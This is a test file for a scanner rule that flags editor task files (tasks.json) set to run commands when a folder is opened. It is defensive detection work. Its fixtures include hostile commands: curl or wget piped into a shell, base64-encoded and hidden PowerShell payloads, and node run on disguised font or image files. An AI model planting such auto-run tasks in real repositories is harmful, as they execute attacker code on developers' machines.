import json

import pytest

from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.editor_task import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


def task(**entry: object) -> str:
    return json.dumps(
        {"version": "2.0.0", "tasks": [{"label": "env", "runOptions": {"runOn": "folderOpen"}, **entry}]}, indent=1
    )


@pytest.mark.parametrize(
    "entry",
    [
        {"command": "curl -s http://203.0.113.7/m | sh"},
        {"command": "node", "args": ["./public/fonts/fa-solid-400.woff2"]},
        {"command": "true", "windows": {"command": "curl https://a.invalid/w | cmd"}},
        {"command": "bash", "args": ["-c", "wget -qO- 'https://a.invalid/l' | sh"]},
        {"type": "shell", "osx": {"command": "curl -L 'https://a.invalid/mac?flag=1' | bash"}},
        {"command": "npm install" + " " * 300 + "; node x.js"},
        {"command": "echo dHJ1ZQ== | base64 -d | sh"},
        {"command": "powershell -w hidden -enc dAByAHUAZQB0AHIAdQBlAA=="},
    ],
)
def test_a_hostile_task_is_certain(entry: dict[str, object]) -> None:
    assert [grade[1:] for grade in graded(".vscode/tasks.json", task(**entry))] == [(Severity.HIGH, Confidence.HIGH)]


def test_the_finding_names_the_line_of_the_command() -> None:
    (finding,) = examine("a/.cursor/tasks.json", task(command="curl -s http://203.0.113.7/m | sh")).findings
    assert finding.rule == "repo/editor-task-runs-on-open"
    assert finding.locations[0].line == 9
    assert finding.phase == "open"
    assert finding.message.english() == "env: downloads code from http://203.0.113.7/m and runs it at once"


def test_dependencies_are_followed() -> None:
    text = json.dumps(
        {
            "tasks": [
                {"label": "open", "dependsOn": ["two"], "runOptions": {"runOn": "folderOpen"}},
                {"label": "two", "dependsOn": "three"},
                {"label": "three", "command": "node assets/logo.png"},
            ]
        }
    )
    assert [grade[1:] for grade in graded(".vscode/tasks.json", text)] == [(Severity.HIGH, Confidence.HIGH)]


@pytest.mark.parametrize(
    "entry",
    [
        {"type": "npm", "script": "watch", "presentation": {"reveal": "never"}},
        {"command": "pnpm", "args": ["install"], "presentation": {"close": True, "reveal": "never"}},
        {"command": "test -d node_modules || npm ci"},
        {"command": "docker compose up -d"},
    ],
)
def test_watchers_and_installs_are_context(entry: dict[str, object]) -> None:
    assert [grade[1] for grade in graded(".vscode/tasks.json", task(**entry))] == [Severity.LOW]


def test_a_task_that_waits_to_be_asked_is_not_reported() -> None:
    text = json.dumps({"tasks": [{"label": "x", "command": "curl https://a.invalid | sh"}], "note": "folderOpen"})
    assert graded(".vscode/tasks.json", text) == []


def test_signals_say_what_starts() -> None:
    text = task(command="cd server && node ./x.js && npm run dev", presentation={"reveal": "never"})
    result = examine("app/.vscode/tasks.json", text)
    assert ("start", "open\tapp/server/x.js") in {(s.kind, s.value) for s in result.signals}
    assert ("script-call", "open\tapp/server\tdev") in {(s.kind, s.value) for s in result.signals}
    assert [f.severity for f in result.findings] == [Severity.MEDIUM]
    assert [f.confidence for f in result.findings] == [Confidence.LOW]


def test_a_damaged_file_is_still_judged() -> None:
    text = '{"tasks": [{"command": "curl https://a.invalid/x | sh", "runOn": "folderOpen" '
    assert graded(".vscode/tasks.json", text) == [(1, Severity.HIGH, Confidence.HIGH)]


def test_equal_names_hide_nothing() -> None:
    text = json.dumps(
        {
            "tasks": [
                {"label": "a", "command": "npm ci", "runOptions": {"runOn": "folderOpen"}},
                {"label": "a", "command": "curl https://a.invalid | sh", "runOptions": {"runOn": "folderOpen"}},
            ]
        }
    )
    assert [grade[1] for grade in graded(".vscode/tasks.json", text)] == [Severity.LOW, Severity.HIGH]


def test_the_editors_own_tasks_are_followed() -> None:
    text = json.dumps({"tasks": [{"label": "a", "dependsOn": ["npm: up"], "runOptions": {"runOn": "folderOpen"}}]})
    result = examine(".vscode/tasks.json", text)
    assert ("script-call", "open\t\tup") in {(s.kind, s.value) for s in result.signals}
